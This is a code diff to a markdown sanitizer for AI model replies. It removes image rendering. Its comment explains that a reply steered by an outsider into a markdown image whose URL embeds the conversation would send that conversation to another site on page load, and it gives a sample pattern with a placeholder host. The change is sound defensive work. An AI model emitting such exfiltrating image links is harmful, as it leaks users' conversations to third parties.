@@ -3,13 +3,16 @@ import rehypeSanitize, { defaultSchema } from "rehype-sanitize";
 
 /**
  * A reply's markdown, safe to show whatever a model (or a visitor who steered it) wrote: raw HTML
- * is never parsed (react-markdown leaves `<script>` as text), links and images keep only http,
- * https, mailto and relative URLs (a `javascript:` link keeps its text and loses its href), and rehype-sanitize's GitHub
- * schema strips anything else, event handlers included. Code blocks keep their language class.
+ * is never parsed (react-markdown leaves `<script>` as text), links keep only http, https, mailto
+ * and relative URLs (a `javascript:` link keeps its text and loses its href), and rehype-sanitize's
+ * GitHub schema strips anything else, event handlers included. Images are not shown at all: a reply
+ * steered into `![](https://elsewhere/?q=<the conversation>)` would send it to another site as the
+ * page loads. Code blocks keep their language class.
  */
 const schema = {
   ...defaultSchema,
-  protocols: { ...defaultSchema.protocols, href: ["http", "https", "mailto"], src: ["http", "https"] },
+  tagNames: (defaultSchema.tagNames ?? []).filter((tag) => tag !== "img"),
+  protocols: { ...defaultSchema.protocols, href: ["http", "https", "mailto"] },
 };
 
 /** The URL when it is http(s), mailto or relative; otherwise none, so the link has no href at all. */
